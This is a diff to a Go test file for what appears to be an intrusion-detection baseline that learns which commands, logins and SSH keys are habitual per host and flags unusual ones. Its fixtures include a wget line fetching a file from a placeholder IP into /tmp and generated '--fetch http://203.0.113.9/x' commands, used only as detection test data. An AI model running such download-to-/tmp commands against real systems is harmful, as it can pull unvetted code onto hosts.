@@ -15,19 +15,19 @@ const download = "wget -q http://198.51.100.80/release -O /tmp/installer-1"
 func TestHabitsAreNoMarks(t *testing.T) {
 	const later = int64(25 * time.Hour)
 	for name, c := range map[string]struct {
-		by    Use
-		taint bool
-		after int64
-		marks bool
+		by         Use
+		taint      bool
+		after      int64
+		marks, key bool
 	}{
 		"yesterday":                           {by: Use{Host: "h1", Carrier: "login:a"}, after: later},
-		"today":                               {by: Use{Host: "h1", Carrier: "login:a"}, after: int64(time.Hour), marks: true},
+		"today":                               {by: Use{Host: "h1", Carrier: "login:a"}, after: int64(time.Hour), marks: true, key: true},
 		"by an intruder":                      {by: Use{Host: "h1", Carrier: "login:x", Tainted: true}, after: later, marks: true},
 		"by somebody who was found out since": {by: Use{Host: "h1", Carrier: "login:x"}, taint: true, after: later, marks: true},
 	} {
-		b := NewBaseline(10)
+		b := NewBaseline(1000)
 		b.Typed("o", download, c.by, 0)
-		b.LoggedIn("o", "SHA256:k", c.by, 0)
+		b.LoggedIn("o", "h1", "SHA256:k", 0)
 		if c.taint {
 			b.taint(c.by.Carrier, 1)
 		}
@@ -35,7 +35,7 @@ func TestHabitsAreNoMarks(t *testing.T) {
 		if got := b.Mark("o", again, c.after) != ""; got != c.marks {
 			t.Errorf("%s: a mark: %v", name, got)
 		}
-		if got := !b.habitual(habitKey("o", habitOfKey, "SHA256:k"), c.after); got != c.marks {
+		if got := !b.habitual(habitKey("o", habitOfKey, "SHA256:k"), c.after); got != c.key {
 			t.Errorf("%s: the key is a mark: %v", name, got)
 		}
 		if b.Mark("p", again, c.after) == "" {
@@ -47,7 +47,7 @@ func TestHabitsAreNoMarks(t *testing.T) {
 // TestABenignLineageTakesAnothersPlace: where the first who had a habit is found out,
 // the next benign one vouches for it, a day later.
 func TestABenignLineageTakesAnothersPlace(t *testing.T) {
-	b := NewBaseline(10)
+	b := NewBaseline(1000)
 	b.Typed("o", download, Use{Carrier: "login:x"}, 0)
 	b.taint("login:x", 1)
 	hour := int64(time.Hour)
@@ -90,11 +90,24 @@ func subjectFor(t *testing.T, address string) Subject {
 	return s
 }
 
+// TestOneHostPushesOutNoHabits: what a host types that types without end stays unknown
+// beyond its share, and takes no place from what others are used to.
+func TestOneHostPushesOutNoHabits(t *testing.T) {
+	b := NewBaseline(500)
+	b.Typed("o", download, Use{Host: "h1", Carrier: "a"}, 0)
+	for i := range 5_000 {
+		b.Typed("o", fmt.Sprintf("tool%d --fetch http://203.0.113.9/x --into /tmp/x", i), Use{Host: "h2", Carrier: "c"}, int64(i))
+	}
+	if b.habits.Len() > 1+500/maxShare || b.Mark("o", download, int64(25*time.Hour)) != "" {
+		t.Errorf("%d habits; what was usual is a mark", b.habits.Len())
+	}
+}
+
 // TestHabitsAreBoundedAndKept: a flood leaves the newest, and a restart changes no answer.
 func TestHabitsAreBoundedAndKept(t *testing.T) {
 	b := NewBaseline(10)
 	for i := range 1000 {
-		b.Typed("o", fmt.Sprintf("tool%d --fetch http://203.0.113.9/x --into /tmp/x", i), Use{Carrier: "c"}, int64(i))
+		b.Typed("o", fmt.Sprintf("tool%d --fetch http://203.0.113.9/x --into /tmp/x", i), Use{Host: fmt.Sprint("h", i), Carrier: "c"}, int64(i))
 		b.Called(subjectFor(t, fmt.Sprintf("203.0.%d.%d", 113+i/250, i%250)), int64(i))
 	}
 	if b.habits.Len() != 10 || b.callers.Len() != 10 {
